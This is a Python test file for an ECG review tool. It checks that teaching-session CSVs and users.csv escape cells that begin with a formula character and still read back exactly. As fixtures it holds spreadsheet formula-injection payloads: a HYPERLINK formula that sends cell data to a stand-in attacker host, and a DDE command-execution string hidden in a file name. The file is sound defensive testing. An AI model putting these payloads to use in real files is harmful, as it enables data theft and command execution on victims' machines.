"""Issue #22 item 8: the teaching-session CSV and users.csv are written with the formula guard, and read back exactly."""

from __future__ import annotations

import csv
import io

from ecgreview.record import CLASSES
from ecgreview.review.teaching import TeachingCase, create_session, load_session
from ecgreview.security.auth import User, add_user, authenticate, load_users
from ecgreview.security.spreadsheet import FORMULA_PREFIXES

HOSTILE_FILE = '=HYPERLINK("http://evil.example/?"&A1,"open").dcm'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_teaching_session_file_names_are_guarded(tmp_path):
    cases = [TeachingCase("a" * 64, HOSTILE_FILE, dict.fromkeys(CLASSES, "absent")),
             TeachingCase("b" * 64, "@SUM(1+1)*cmd|' /C calc'!A0.xml", dict.fromkeys(CLASSES, ""))]
    session = create_session(tmp_path / "sessions", "week 1", cases)
    text = (tmp_path / "sessions" / "week-1.csv").read_text()
    assert not [cell for cell in _cells(text) if cell.startswith(FORMULA_PREFIXES)]
    assert "'=HYPERLINK" in text
    assert [case.source_name for case in session.cases] == [case.source_name for case in cases]
    assert load_session(tmp_path / "sessions" / "week-1.csv") == session


def test_user_file_names_are_guarded(tmp_path):
    users = tmp_path / "users.csv"
    add_user(users, "-rossi", "correct horse battery", ["reader"])
    add_user(users, "@bianchi", "correct horse battery", ["teacher"])
    text = users.read_text()
    assert not [cell for cell in _cells(text) if cell.startswith(FORMULA_PREFIXES)]
    assert set(load_users(users)) == {"-rossi", "@bianchi"}
    assert authenticate(users, "-rossi", "correct horse battery") == User("-rossi", frozenset({"reader"}))
    add_user(users, "-rossi", "another long password", ["student"], replace=True)  # read back, rewritten
    assert load_users(users)["-rossi"][0] == {"student"} and "'-rossi" in users.read_text()
